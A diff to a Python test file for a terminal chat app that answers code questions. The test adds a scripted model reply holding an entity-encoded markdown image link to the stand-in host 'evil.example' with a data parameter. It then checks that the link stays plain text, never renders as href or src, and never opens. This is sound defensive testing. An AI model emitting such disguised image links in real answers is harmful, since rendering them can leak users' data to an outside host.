@@ -31,12 +31,13 @@ from codeqa.tui.chat.widgets import (
 from codeqa.tui.chat.widgets.location_text import fit_location
 from codeqa.tui.chat.workers import AnswerFinished, IndexProgressed, LiveRetriever
 from codeqa.tui.settings import Settings
+from markdown_it import MarkdownIt
 from rich.text import Text
 from scripted_llm import ScriptedModel, install_scripted
 from textual import events
 from textual.app import App, ComposeResult
 from textual.pilot import Pilot
-from textual.widgets import Input, Label
+from textual.widgets import Input, Label, Markdown
 
 FIXTURES = Path(__file__).parent / "fixtures" / "languages"
 SHOP_FILES = ("inventory.py", "ratelimit.go", "router.js")
@@ -220,6 +221,37 @@ async def test_escape_cancels_an_answer_in_flight(shop, scripted):
         assert not error_notices(app)
         await ask(pilot, "where is the reorder level checked?")  # the chat is still usable
         await wait_for(pilot, lambda: len(answers(app)) == 2 and not app.answering)
+
+
+def link_out_first(messages: list[dict]) -> str:
+    if messages[0]["content"].startswith("You plan searches"):
+        return "{}"
+    return "See ![x](&#47;&#47;evil.example/?d=1) first, then the rest of the answer."
+
+
+async def test_a_stopped_answer_keeps_no_link_out_and_no_answer_link_opens_outside(
+    shop, monkeypatch
+):
+    model = install_scripted(monkeypatch, otherwise=link_out_first, hold_after=HOLD_AFTER)
+    model.hold.clear()
+    app = chat_app(*shop, model="scripted/chat")
+    opened: list[str] = []
+    monkeypatch.setattr(app, "open_url", lambda url, **_: opened.append(url))
+    async with app.run_test(size=SIZE) as pilot:
+        await wait_for(pilot, ready(app))
+        await ask(pilot, "How does the rate limiter refill its tokens?")
+        await wait_for(pilot, lambda: answers(app) and "evil" in answers(app)[0].streamed)
+        [answer] = answers(app)
+        answer.post_message(Markdown.LinkClicked(answer, "//evil.example/?d=1"))
+        answer.post_message(Markdown.LinkClicked(answer, "ratelimit.go"))
+        await pilot.press("escape")
+        model.hold.set()
+        await wait_for(pilot, lambda: not app.answering)
+        text = answer.source
+        assert "stopped" in text and "evil.example" in text  # shown, as text
+        rendered = MarkdownIt("commonmark", {"html": True}).render(text)
+        assert not [a for a in re.findall(r'(?:href|src)="([^"]*)"', rendered) if "evil" in a]
+        assert opened == ["ratelimit.go"]
 
 
 async def test_escape_cancels_an_offline_answer_at_once_and_says_so(shop, monkeypatch):
